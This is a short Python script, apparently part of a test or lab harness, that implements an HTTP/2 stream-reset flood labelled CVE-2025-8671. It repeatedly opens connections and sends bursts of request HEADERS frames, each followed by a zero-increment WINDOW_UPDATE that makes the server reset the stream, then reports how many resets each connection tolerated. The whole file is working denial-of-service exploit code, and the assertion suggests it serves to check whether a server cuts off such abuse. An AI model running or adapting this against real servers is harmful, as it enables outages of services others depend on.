# SPDX-License-Identifier: Apache-2.0
"""CVE-2025-8671: the client does something wrong with a stream, so that the server resets it and works on."""
import struct

from lib.flood import Shut, headers, request_block
from lib.http2 import WINDOW_UPDATE, frame

BURST = 100


def attack(target):
    block = request_block("/readyz", "GET")
    opened, resets = 0, 0
    while target.is_on():
        if (line := target.line()) is None:
            continue
        opened += 1
        stream = 1
        try:
            while target.is_on() and not line.is_shut():
                streams = range(stream, stream + 2 * BURST, 2)
                stream += 2 * BURST
                line.send(b"".join(headers(s, block) + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0)) for s in streams))
                resets += BURST
        except Shut:
            pass
        line.close()
    assert opened > 1, "a connection may be made to reset without end"
    return f"{opened} connections, each shut after {resets // opened} resets"
